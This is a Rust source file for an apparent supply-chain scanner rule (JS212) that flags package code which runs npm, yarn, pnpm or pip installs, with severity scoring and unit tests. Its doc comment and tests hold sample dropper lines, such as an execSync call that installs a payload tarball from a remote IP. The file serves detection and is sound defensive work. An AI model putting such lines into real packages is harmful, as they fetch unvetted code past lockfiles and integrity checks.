//! JS212 `runtime-install`: the package's own code installs another
//! package (`npm install <pkg>`, `yarn add`, `pnpm add`, `pip install`).
//!
//! **What it detects.** A process started from package code
//! (`child_process.exec/execSync/spawn…`, execa, shelljs) whose command line
//! runs `npm install|i|add <pkg>`, `yarn add <pkg>`, `pnpm add|install
//! <pkg>`, `pip install <pkg>` or `python -m pip install <pkg>`. Installs
//! from a URL, a git repository, a GitHub shorthand or a tarball are named
//! in the evidence. `npm install`/`npm ci` of the project itself (no
//! package named), `pip install .` and `-r requirements.txt` are not
//! flagged.
//!
//! **Why it matters.** A package installed behind the resolver's back
//! escapes the lockfile, the integrity hashes and the company mirror:
//! droppers pull their real payload that way at install or first require
//! (`npm i https://…/x.tgz`, `pip install git+https://…`), MITRE T1195.002.
//!
//! **Example.**
//! ```js
//! execSync('npm install --no-save https://203.0.113.5/payload.tgz');
//! ```
//!
//! **False positives.** Project generators, CLIs that add plugins on
//! request and editor tooling install packages as their job: Low in
//! library code (by name), High with medium confidence from a URL/git.
//! Native-binary installers (esbuild's fallback) run `npm install
//! ${platformPackage}@${version}` from their install script: a name
//! computed at run time is Medium with low confidence there; a named
//! package is High, and a URL, git repository or tarball Critical.

use sluice_model::{Confidence, Finding, Severity};

use super::facts::Call;
use super::{Ctx, api};

/// What one command line installs.
#[derive(Debug, PartialEq, Eq)]
pub struct Install {
    /// `npm`, `yarn`, `pnpm`, `pip`.
    pub tool: &'static str,
    /// The packages named (`…` when computed).
    pub packages: Vec<String>,
    /// The first package given as a URL, git repository or tarball.
    pub remote: Option<String>,
    /// `-g`/`--global`.
    pub global: bool,
}

/// The install a command line runs, if it installs a named package.
#[must_use]
pub fn installer(cmd: &str) -> Option<Install> {
    for seg in cmd.split(['&', ';', '|', '\n']) {
        let words: Vec<&str> = seg
            .split_whitespace()
            .map(|w| w.trim_matches(['"', '\'']))
            .filter(|w| !w.is_empty())
            .collect();
        if let Some(i) = parse_segment(&words) {
            return Some(i);
        }
    }
    None
}

fn parse_segment(w: &[&str]) -> Option<Install> {
    let base = |s: &str| {
        let b = s
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or(s)
            .to_ascii_lowercase();
        b.strip_suffix(".cmd")
            .or_else(|| b.strip_suffix(".exe"))
            .map_or(b.clone(), str::to_owned)
    };
    for (k, cmd) in w.iter().enumerate() {
        let b = base(cmd);
        let (tool, subs): (&'static str, &[&str]) = match b.as_str() {
            "npm" => ("npm", &["install", "i", "add", "isntall", "in"]),
            "yarn" => ("yarn", &["add"]),
            "pnpm" => ("pnpm", &["add", "install", "i"]),
            "pip" | "pip3" => ("pip", &["install"]),
            _ if b.starts_with("pip3.") => ("pip", &["install"]),
            _ if b.starts_with("python") && w.get(k + 1) == Some(&"-m") => {
                if w.get(k + 2).is_some_and(|m| m.starts_with("pip")) {
                    return parse_args("pip", &w[k + 3..]);
                }
                continue;
            }
            _ => continue,
        };
        // The sub-command, after global flags.
        let rest = &w[k + 1..];
        let sub = rest.iter().position(|x| !x.starts_with('-'))?;
        if !subs.contains(&rest[sub]) {
            return None;
        }
        return parse_args(tool, &rest[sub + 1..]);
    }
    None
}

fn parse_args(tool: &'static str, args: &[&str]) -> Option<Install> {
    let mut packages = Vec::new();
    let mut global = false;
    let mut skip = false;
    for a in args {
        if skip {
            skip = false;
            continue;
        }
        match *a {
            "-g" | "--global" | "--user" => global = true,
            // Options that take a value, and `-r requirements.txt`/`-e .`.
            "-r" | "--requirement" | "-c" | "--constraint" | "-e" | "--editable" | "--prefix"
            | "--target" | "-t" | "--cwd" | "--registry" | "-C" | "--index-url" | "-i"
            | "--extra-index-url" => skip = true,
            _ if a.starts_with('-') => {}
            "." | "./" | ".." => {}
            _ if a.starts_with("./") || a.starts_with("../") || a.starts_with('/') => {}
            _ => packages.push((*a).to_owned()),
        }
    }
    if packages.is_empty() {
        return None;
    }
    let remote = packages.iter().find(|p| is_remote(p)).cloned();
    Some(Install {
        tool,
        packages,
        remote,
        global,
    })
}

fn is_remote(p: &str) -> bool {
    let l = p.to_ascii_lowercase();
    l.contains("://")
        || l.starts_with("git+")
        || l.starts_with("git@")
        || l.starts_with("github:")
        || l.starts_with("gitlab:")
        || l.starts_with("bitbucket:")
        || l.starts_with("gist:")
        || [".tgz", ".tar.gz", ".whl", ".zip"]
            .iter()
            .any(|e| l.ends_with(e))
        // `user/repo` (GitHub shorthand), not `@scope/name`.
        || (!l.starts_with('@') && l.contains('/') && !l.contains('…'))
}

/// Command lines of a process call, unknown parts as `…`.
fn command_lines(ctx: &Ctx<'_, '_>, c: &Call<'_>) -> Vec<String> {
    let f = ctx.facts;
    let part = |a: u32| f.const_string(a, 0).unwrap_or_else(|| "…".into());
    let mut v: Vec<String> = Vec::new();
    for &a in c.args.iter().take(2) {
        if f.kind(a) == "array" {
            v.push(
                f.children(a)
                    .filter(|&x| f.kind(x) != "comment")
                    .take(32)
                    .map(part)
                    .collect::<Vec<_>>()
                    .join(" "),
            );
        } else if f.kind(a) != "object" {
            v.push(part(a));
        }
    }
    if v.len() > 1 {
        let joined = v.join(" ");
        v.insert(0, joined);
    }
    v
}

pub(super) fn check(ctx: &Ctx<'_, '_>) -> Vec<Finding> {
    let f = ctx.facts;
    let mut out = Vec::new();
    for c in ctx.calls_where(api::is_process) {
        let Some(inst) = command_lines(ctx, c)
            .iter()
            .filter(|s| !s.starts_with('…'))
            .find_map(|s| installer(s))
        else {
            continue;
        };
        let unasked = ctx.unasked() && ctx.runs_at_load(c.node);
        // `npm install ${platformPkg}@${version}`: a name computed at run
        // time is how native-binary installers fetch their own platform
        // package; a payload is named or given as a URL.
        let computed = inst.packages.iter().all(|p| p.starts_with('…'));
        let (sev, conf) = match (unasked, inst.remote.is_some()) {
            (true, true) => (Severity::Critical, Confidence::High),
            (true, false) if computed => (Severity::Medium, Confidence::Low),
            (true, false) => (Severity::High, Confidence::Medium),
            (false, true) => (Severity::High, Confidence::Medium),
            (false, false) => (Severity::Low, Confidence::Medium),
        };
        let (sev, conf) = if f.looks_minified() {
            (sev.min(Severity::Medium), Confidence::Low)
        } else {
            (sev, conf)
        };
        let mut fi = ctx
            .finding(
                c.node,
                "JS212",
                "runtime-install",
                sev,
                conf,
                format!("package code runs `{} install` itself", inst.tool),
            )
            .evidence(format!(
                "installs: {}",
                inst.packages
                    .iter()
                    .take(4)
                    .map(String::as_str)
                    .collect::<Vec<_>>()
                    .join(" ")
            ));
        if let Some(r) = &inst.remote {
            fi = fi.evidence(format!("from outside the registry: {r}"));
        }
        if computed && inst.remote.is_none() {
            fi = fi.evidence("the package name is computed at run time");
        }
        if inst.global {
            fi = fi.evidence("installs globally");
        }
        if unasked {
            fi = fi.evidence(
                "in code that runs unasked (install script, or the package main at load)",
            );
        }
        out.push(fi);
        if out.len() >= 4 {
            break;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands() {
        let i = installer("npm install --no-save https://203.0.113.5/p.tgz").unwrap();
        assert_eq!(i.tool, "npm");
        assert!(i.remote.is_some());
        assert_eq!(
            installer("npm i left-pad").unwrap().packages,
            vec!["left-pad"]
        );
        assert!(installer("yarn add @scope/x").unwrap().remote.is_none());
        assert!(installer("pnpm add user/repo").unwrap().remote.is_some());
        assert!(
            installer("python3 -m pip install git+https://x/y.git")
                .unwrap()
                .remote
                .is_some()
        );
        assert!(installer("pip install -q requests").is_some());
        assert!(installer("npm install -g …").unwrap().global);
        for none in [
            "npm install",
            "npm ci",
            "npm install --production",
            "yarn",
            "yarn install",
            "pip install -r requirements.txt",
            "pip install -e .",
            "pip install .",
            "npm run build && npm test",
            "npm config get registry",
            "cd x && npm install --silent",
            "echo npm install",
        ] {
            assert_eq!(installer(none), None, "{none}");
        }
    }
}
